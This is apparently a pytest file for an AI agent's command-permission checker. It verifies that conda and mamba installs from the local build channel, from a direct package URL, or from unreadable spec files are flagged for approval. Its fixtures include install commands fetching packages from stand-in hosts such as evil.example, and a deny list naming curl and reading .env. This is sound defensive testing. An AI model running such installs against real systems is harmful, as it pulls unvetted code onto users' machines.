"""conda's `local` channel is the conda-bld directory of its own installation, outside the
workspace, where `conda build` leaves what it built: `-c local`, `--use-local`, `local::pkg`,
`pkg[channel=local]`, or an environment or spec file naming it, install code no rule has
seen; so does a package fetched by its own URL (`pkg[url=https://...]`), as npm's URL specs
do. A spec or environment file that cannot be read lists packages not seen either. All were
allowed before (the file was skipped)."""

from __future__ import annotations

import pytest

from tether.permissions import Decision, decide

from .conftest import ContextFactory, Tree

RULES = {
    "permissions": {
        "allow": [
            "Bash(conda *)",
            "Bash(mamba *)",
            "Bash(micromamba *)",
            "Bash(echo *)",
            "Bash(cp *)",
        ],
        "deny": ["Read(.env)", "Bash(curl *)"],
    }
}
LOCAL = (
    "conda installs from its local channel, the packages conda build left in its own"
    " directory outside the workspace: not seen"
)


@pytest.mark.parametrize(
    "command",
    [
        "conda install -c local pkg",
        "conda install --channel=local pkg",
        "conda install --chan local pkg",
        "conda install -clocal pkg",
        "conda install -c local/ pkg",
        "conda install -c local::pkg",
        "conda install local::pkg",
        "conda install 'pkg[channel=local]'",
        "conda install --use-local pkg",
        "conda install --use-l pkg",
        "conda create -n x --use-local pkg",
        "conda update -c local pkg",
        "conda env create -c local -f environment.yml",
        "mamba install -c local pkg",
        "micromamba create -n x -c local pkg",
        "conda install --override-channels -c local pkg",
    ],
)
def test_the_local_channel_is_asked(command: str, tree: Tree, make_ctx: ContextFactory) -> None:
    tree.write({"environment.yml": "dependencies:\n  - numpy\n"})
    assert decide("Bash", {"command": command}, make_ctx(RULES)) == Decision("ask", None, LOCAL)


@pytest.mark.parametrize(
    ("command", "url"),
    [
        (
            "conda install 'pkg[url=https://evil.example/p.tar.bz2]'",
            "https://evil.example/p.tar.bz2",
        ),
        (
            "conda install \"pkg[version=1, URL='http://e.example/p.conda']\"",
            "http://e.example/p.conda",
        ),
        ("mamba create -n x 'pkg[url=ftp://e.example/p.conda]'", "ftp://e.example/p.conda"),
    ],
)
def test_a_package_fetched_by_its_own_url_is_asked(
    command: str, url: str, make_ctx: ContextFactory
) -> None:
    reason = f"conda installs a package fetched from {url}, not from a channel: not seen"
    assert decide("Bash", {"command": command}, make_ctx(RULES)) == Decision("ask", None, reason)


@pytest.mark.parametrize(
    ("name", "text", "reason"),
    [
        ("reqs.txt", "numpy\nlocal::evilpkg\n", LOCAL),
        ("reqs.txt", "pkg[channel=local]  # built here\n", LOCAL),
        ("env.yml", "channels:\n  - local\ndependencies:\n  - numpy\n", LOCAL),
        ("env.yml", "dependencies:\n  - local::evilpkg\n", LOCAL),
        (
            "reqs.txt",
            "pkg[url=https://evil.example/p.conda]\n",
            "conda installs a package fetched from https://evil.example/p.conda, not from a"
            " channel: not seen",
        ),
    ],
)
def test_a_file_naming_the_local_channel_or_a_url_is_asked(
    name: str, text: str, reason: str, tree: Tree, make_ctx: ContextFactory
) -> None:
    tree.write({name: text})
    command = (
        f"conda install --file {name}" if name == "reqs.txt" else f"conda env create -f {name}"
    )
    verdict = decide("Bash", {"command": command}, make_ctx(RULES))
    assert verdict == Decision("ask", None, f"{name}: {reason}")


@pytest.mark.parametrize(
    "command",
    [
        "echo 'local::evilpkg' > missing.txt && conda install --file missing.txt",
        "echo x > missing.txt; conda create -n x --file missing.txt",
        "cp /dev/null missing.txt && conda update --file=missing.txt",
        "echo x && conda install --fi missing.txt",
        "echo x && conda env create -f missing.txt",
        "echo x && conda env update --file missing.txt",
        "echo x && mamba install --file missing.txt",
    ],
)
def test_a_spec_file_not_there_before_the_line_runs_is_asked(
    command: str, make_ctx: ContextFactory
) -> None:
    """An earlier command of the line may write it; alone, conda finds nothing to install."""
    reason = "missing.txt cannot be read: the packages conda installs from it are not seen"
    assert decide("Bash", {"command": command}, make_ctx(RULES)) == Decision("ask", None, reason)


def test_a_spec_file_that_is_no_text_is_asked(tree: Tree, make_ctx: ContextFactory) -> None:
    (tree.ws / "reqs.txt").write_bytes(b"numpy\0\xff")
    verdict = decide("Bash", {"command": "conda install --file reqs.txt"}, make_ctx(RULES))
    reason = "reqs.txt cannot be read: the packages conda installs from it are not seen"
    assert verdict == Decision("ask", None, reason)


@pytest.mark.parametrize(
    "command",
    [
        "conda install numpy",
        "conda install -c conda-forge numpy",
        "conda install conda-forge::numpy",
        "conda install --override-channels -c conda-forge numpy",
        "conda install localpkg",
        "conda install -c ./local pkg",
        "conda install --file reqs.txt",
        "conda install --use-index-cache numpy",
        "conda remove local",
        "conda install --file missing.txt",
        "conda env create",
    ],
)
def test_ordinary_installs_stay_allowed(command: str, tree: Tree, make_ctx: ContextFactory) -> None:
    tree.write({"reqs.txt": "numpy\nlocalpkg\n", "local/noarch/repodata.json": "{}"})
    rule = "Bash(conda *)"
    expected = Decision("allow", rule, f"allowed by {rule}")
    assert decide("Bash", {"command": command}, make_ctx(RULES)) == expected
